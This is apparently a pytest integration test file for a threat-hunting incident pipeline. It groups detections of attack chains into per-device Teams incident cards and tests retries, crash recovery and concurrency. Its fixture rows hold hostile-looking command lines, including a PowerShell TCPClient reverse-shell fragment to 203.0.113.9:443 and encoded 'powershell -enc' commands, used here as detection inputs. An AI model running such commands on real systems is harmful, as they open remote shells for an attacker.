"""Incidents end to end: the repository's hunts (local engine) over hand-placed attack chains,
the ledger and the incident store on Azurite, posts through TeamsWebhook to a local receiver."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from devtools.webhook import Reply, WebhookReceiver
from shared.cards import MAX_PAYLOAD_BYTES, card_of, payload_size, summarize_digest
from shared.hunt import Hunt, load_hunts
from shared.incidents import IncidentPost, IncidentStore, process_run
from shared.incidents.pipeline import IncidentOutcome, IncidentSettings
from shared.ledger import Finding, Ledger
from shared.notify.teams import TeamsNotifier
from shared.sources.local import LocalSource
from shared.storage import Storage
from shared.window import Window
from tests.card_text import texts as card_texts
from tests.card_text import title

REPO = Path(__file__).resolve().parents[1]
SAMPLES = REPO / "samples"
DAY = Window(datetime(2026, 11, 27, tzinfo=UTC), datetime(2026, 11, 28, tzinfo=UTC))
FIN = "4d645fa6d13c513a42f8eda197b1165f0971b7c4"
HR = "449e78e4f15ce760f3e452f23cbb7daa64c184fa"
ENG = "343a2c9fbed3e91c29ec148cead50263f4d6d235"
SHELL = {"process": [22528, 22551], "network": [22560]}       # Word > cmd > PowerShell TCP shell
ENCODED = {"process": [34098, 34122], "network": [34128]}     # encoded shell, ws-hr-022
CRADLE = {"process": [24165], "network": [24174]}             # cradle from an IP:port


def sample_rows(table: str, report_ids: Sequence[int]) -> list[dict[str, Any]]:
    rows = [json.loads(line) for line in (SAMPLES / f"{table}.jsonl").open(encoding="utf-8")]
    return [row for row in rows if row["ReportId"] in report_ids]


def rehome(rows: list[dict[str, Any]], device_id: str, name: str) -> list[dict[str, Any]]:
    return [{**row, "DeviceId": device_id, "DeviceName": name} for row in rows]


def attack_events(tmp_path: Path, extra_network: Sequence[dict[str, Any]] = ()) -> LocalSource:
    """Three chains on three devices: the cradle is moved to ws-eng-031."""
    process = (sample_rows("DeviceProcessEvents", SHELL["process"] + ENCODED["process"])
               + rehome(sample_rows("DeviceProcessEvents", CRADLE["process"]), ENG,
                        "ws-eng-031.corp.contoso.com"))
    network = (sample_rows("DeviceNetworkEvents", SHELL["network"] + ENCODED["network"])
               + rehome(sample_rows("DeviceNetworkEvents", CRADLE["network"]), ENG,
                        "ws-eng-031.corp.contoso.com") + list(extra_network))
    files = {}
    for table, rows in (("DeviceProcessEvents", process), ("DeviceNetworkEvents", network)):
        path = tmp_path / f"{table}.jsonl"
        path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
        files[table] = path
    return LocalSource(files)


def second_connection() -> dict[str, Any]:
    """The first shell connects again an hour later, to another port."""
    row = sample_rows("DeviceNetworkEvents", SHELL["network"])[0]
    later = datetime.fromisoformat(row["Timestamp"].replace("Z", "+00:00")) + timedelta(hours=1)
    return {**row, "ReportId": 99001, "RemotePort": 8443,
            "Timestamp": later.isoformat().replace("+00:00", "Z")}


@pytest.fixture(scope="module")
def hunts() -> list[Hunt]:
    return [hunt for hunt in load_hunts(REPO / "hunts").hunts if hunt.enabled]


@pytest.fixture
def ledger(storage_connection_string: str, request: pytest.FixtureRequest) -> Ledger:
    suffix = abs(hash(request.node.name)) % 10**8
    return Ledger(Storage.from_connection_string(storage_connection_string),
                                         findings_table=f"incF{suffix}",
                                         pending_table=f"incP{suffix}",
                                         checkpoints_table=f"incC{suffix}")


@pytest.fixture
def store(storage_connection_string: str, request: pytest.FixtureRequest) -> IncidentStore:
    suffix = abs(hash(request.node.name)) % 10**8
    return IncidentStore(Storage.from_connection_string(storage_connection_string),
                         table=f"incI{suffix}")


@pytest.fixture
def hook() -> Iterator[WebhookReceiver]:
    with WebhookReceiver() as receiver:
        yield receiver


def record(ledger: Ledger, hunts: list[Hunt], source: LocalSource,
           now: datetime) -> dict[str, list[Finding]]:
    return {hunt.id: ledger.record(hunt, source.run(hunt, DAY).rows, now).new for hunt in hunts}


def run_incidents(findings: Mapping[str, Sequence[Finding]], hunts: list[Hunt],
                  store: IncidentStore, notifier: Any, now: datetime,
                  settings: IncidentSettings | None = None) -> IncidentOutcome:
    return process_run(findings, hunts, store, notifier, now, settings)


def test_one_post_per_attacked_device_then_one_update(tmp_path: Path, hunts: list[Hunt],
                                                      ledger: Ledger, store: IncidentStore,
                                                      hook: WebhookReceiver) -> None:
    now = DAY.end
    findings = record(ledger, hunts, attack_events(tmp_path), now)
    matched = {h.name for h in hunts if findings[h.id]}
    assert len(matched) == 5
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        first = run_incidents(findings, hunts, store, webhook, now)
    assert len(hook.payloads) == 3
    by_device = {title(p).rsplit(" on ", 1)[1]: card_text(p) for p in hook.payloads}
    assert set(by_device) == {"ws-fin-014.corp.contoso.com", "ws-hr-022.corp.contoso.com",
                              "ws-eng-031.corp.contoso.com"}
    expected = {"ws-fin-014.corp.contoso.com": (FIN, ("Microsoft", "socket", "outbound")),
                "ws-hr-022.corp.contoso.com": (HR, ("Encoded", "outbound")),
                "ws-eng-031.corp.contoso.com": (ENG, ("cradle", "outbound"))}
    for device, (_, names) in expected.items():
        named = [h.name for h in hunts if any(n.lower() in h.name.lower() for n in names)
                 and h.source == "defender"]
        for name in named:
            assert name in by_device[device], (device, name)
    shell = by_device["ws-fin-014.corp.contoso.com"]
    assert "WINWORD.EXE → cmd.exe → powershell.exe → 203.0.113.57:443" in shell
    encoded = by_device["ws-hr-022.corp.contoso.com"]
    assert encoded.count("Decoded script") == 1  # cmd.exe and powershell.exe decode the same
    for payload in hook.payloads:
        assert card_of(payload)["version"] == "1.4"
        assert payload_size(payload) <= MAX_PAYLOAD_BYTES
    shell_id = next(i for i in first.opened if "-4D64-" in i)

    later = now + timedelta(hours=1)
    source = attack_events(tmp_path, [second_connection()])
    findings = record(ledger, hunts, source, later)
    assert sum(len(f) for f in findings.values()) == 1
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        second = run_incidents(findings, hunts, store, webhook, later)
    assert len(hook.payloads) == 4
    assert second.updated == [shell_id]
    assert not second.opened
    update = card_text(hook.payloads[-1])
    assert f"Update to {shell_id}" in update
    assert "8443" in update
    assert "ws-hr-022" not in update


def test_evidence_only_port_probe_opens_nothing(tmp_path: Path, hunts: list[Hunt],
                                                ledger: Ledger, store: IncidentStore,
                                                hook: WebhookReceiver) -> None:
    probe = sample_rows("DeviceProcessEvents", [16222])  # the admin's TcpClient port probe
    assert "TcpClient" in probe[0]["ProcessCommandLine"]
    path = tmp_path / "DeviceProcessEvents.jsonl"
    path.write_text(json.dumps(probe[0]) + "\n", encoding="utf-8")
    findings = record(ledger, hunts, LocalSource({"DeviceProcessEvents": path}), DAY.end)
    assert sum(len(f) for f in findings.values()) == 1  # Microsoft's seed matches it
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        outcome = run_incidents(findings, hunts, store, webhook, DAY.end)
    assert hook.payloads == []
    assert len(outcome.held) == 1
    # Notified without a post of its own: kept on the held incident, never pending again.
    assert sum(len(keys) for keys in outcome.absorbed.values()) == 1
    assert not outcome.delivered
    assert not outcome.pending


class CrashAfterPost:
    """Posts for real, then dies before the run can record it (once)."""

    def __init__(self, notifier: TeamsNotifier):
        self.notifier = notifier
        self.crashed = False

    def render_incident(self, post: IncidentPost) -> dict[str, Any]:
        return self.notifier.render_incident(post)

    def post_incident(self, message: Mapping[str, Any],
                      held_back_since: datetime | None = None) -> object:
        result = self.notifier.post_incident(message, held_back_since)
        if not self.crashed:
            self.crashed = True
            raise SystemExit("crash between post and record")
        return result


def test_crash_between_post_and_record_reposts_at_most_one_card(
        tmp_path: Path, hunts: list[Hunt], ledger: Ledger, store: IncidentStore,
        hook: WebhookReceiver) -> None:
    now = DAY.end
    findings = record(ledger, hunts, attack_events(tmp_path), now)
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        with pytest.raises(SystemExit):
            run_incidents(findings, hunts, store, CrashAfterPost(webhook), now)
        assert len(hook.payloads) == 1
        pending = {h.id: ledger.pending(h) for h in hunts}  # nothing was marked notified
        outcome = run_incidents(pending, hunts, store, webhook, now + timedelta(hours=1))
    payloads = [json.dumps(p, sort_keys=True) for p in hook.payloads]
    assert len(payloads) == 4  # three incidents, one card re-posted
    assert len(set(payloads)) == 3
    assert payloads[0] == payloads[1]  # the re-post is the same card, first
    assert {title(p).rsplit(" on ", 1)[1] for p in hook.payloads} == {
        "ws-fin-014.corp.contoso.com", "ws-hr-022.corp.contoso.com",
        "ws-eng-031.corp.contoso.com"}
    assert sum(len(k) for k in outcome.delivered.values()) == sum(
        len(f) for f in findings.values())


def test_failed_post_stays_pending_and_is_posted_once_next_run(
        tmp_path: Path, hunts: list[Hunt], ledger: Ledger, store: IncidentStore) -> None:
    now = DAY.end
    findings = record(ledger, hunts, attack_events(tmp_path), now)
    with WebhookReceiver([Reply(400)], default=Reply(202)) as hook, \
            closing(TeamsNotifier(hook.url, min_interval_seconds=0, max_attempts=1)) as webhook:
        failed = run_incidents(findings, hunts, store, webhook, now)
        assert failed.posted == 0
        assert sum(len(k) for k in failed.pending.values()) == sum(
            len(f) for f in findings.values())
        pending = {h.id: ledger.pending(h) for h in hunts}
        again = run_incidents(pending, hunts, store, webhook, now + timedelta(hours=1))
        bodies = [json.dumps(p, sort_keys=True) for p in hook.payloads]
    assert again.posted == 3
    assert len(bodies) == 4  # the refused card, then three accepted ones
    assert len(set(bodies[1:])) == 3
    assert not again.pending


def test_concurrent_runs_on_one_device_make_one_incident(
        hunts: list[Hunt], store: IncidentStore, hook: WebhookReceiver) -> None:
    hunt = next(h for h in hunts if h.path.stem == "powershell-socket-reverse-shell")
    base = datetime(2026, 11, 27, 9, tzinfo=UTC)

    def finding(index: int) -> Finding:
        row = {"DeviceId": FIN, "DeviceName": "ws-fin-014.corp.contoso.com",
               "ReportId": 500 + index, "FileName": "powershell.exe", "ProcessId": 100 + index,
               "Timestamp": (base + timedelta(minutes=index)).isoformat()}
        return Finding(hunt.id, f"k{index}", row, base + timedelta(minutes=index), base, 1)

    outcomes: list[IncidentOutcome] = []
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        threads = [threading.Thread(target=lambda i=i: outcomes.append(run_incidents(
            {hunt.id: [finding(i)]}, hunts, store, webhook, base + timedelta(hours=1))))
            for i in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    ids = {i for o in outcomes for i in o.opened + o.updated}
    assert len(ids) == 1
    assert len(hook.payloads) == 2
    # One post opens the incident, the other run's evidence updates it (never two openings).
    assert sorted(summarize_digest(p).kind for p in hook.payloads) == ["incident", "update"]
    assert sum(len(o.opened) for o in outcomes) == 1
    incident = store.open_incidents(base + timedelta(hours=1), timedelta(days=1))
    assert len(incident) == 1
    assert len(incident[0].members) == 2


def test_sentinel_rows_group_by_computer_and_device_name(
        store: IncidentStore, hook: WebhookReceiver) -> None:
    """Sentinel tables have no DeviceId: SecurityEvent rows group by Computer, Sentinel's
    DeviceProcessEvents rows by DeviceName, the same machine whatever the case."""
    events = Hunt(id="5e000000-0000-4000-8000-000000000001", name="Encoded command (4688)",
                  query="x", source="sentinel", path=Path("sec.yaml"), severity="High")
    mde = Hunt(id="5e000000-0000-4000-8000-000000000002", name="Socket in PowerShell (MDE)",
               query="x", source="sentinel", path=Path("mde.yaml"), severity="Medium")
    base = datetime(2026, 11, 27, 9, tzinfo=UTC)

    def finding(hunt: Hunt, index: int, row: dict[str, Any]) -> Finding:
        moment = base + timedelta(minutes=index)
        return Finding(hunt.id, f"{hunt.id[-1]}k{index}",
                       {"TimeGenerated": moment.isoformat(), **row}, moment, base, 1)

    findings = {
        events.id: [finding(events, 0, {"Computer": "SRV-SQL-01.corp.contoso.com",
                                        "EventID": 4688, "Account": "CONTOSO\\svc-sql",
                                        "CommandLine": "powershell -enc SQBFAFgA"}),
                    finding(events, 5, {"Computer": "ws-hr-022.corp.contoso.com",
                                        "EventID": 4688, "CommandLine": "powershell -enc AA"})],
        mde.id: [finding(mde, 2, {"DeviceName": "srv-sql-01.corp.contoso.com",
                                  "FileName": "powershell.exe",
                                  "InitiatingProcessFileName": "sqlservr.exe",
                                  "ProcessCommandLine": "powershell -c $c=New-Object "
                                                        "Net.Sockets.TCPClient('203.0.113.9',443)",
                                  "RemoteIP": "203.0.113.9", "RemotePort": 443})]}
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        outcome = run_incidents(findings, [events, mde], store, webhook, base + timedelta(hours=1))
    assert len(hook.payloads) == 2
    by_device = {title(p).rsplit(" on ", 1)[1]: p for p in hook.payloads}
    assert set(by_device) == {"srv-sql-01.corp.contoso.com", "ws-hr-022.corp.contoso.com"}
    sql = summarize_digest(by_device["srv-sql-01.corp.contoso.com"])
    assert dict(sql.hunts) == {"Encoded command (4688)": 1, "Socket in PowerShell (MDE)": 1}
    assert sql.total_new == 2
    sql_text = card_text(by_device["srv-sql-01.corp.contoso.com"])
    assert "Parent: \nsqlservr.exe\nEndpoint: \n203.0.113.9:443" in sql_text
    assert "Chain" not in sql_text  # the 4688 row and the MDE row share no process
    assert "advanced hunting" not in json.dumps(hook.payloads)  # Sentinel evidence only
    assert sum(len(k) for k in outcome.delivered.values()) == 3
    assert len(outcome.opened) == 2


def card_text(payload: Any) -> str:
    return "\n".join(card_texts(payload))
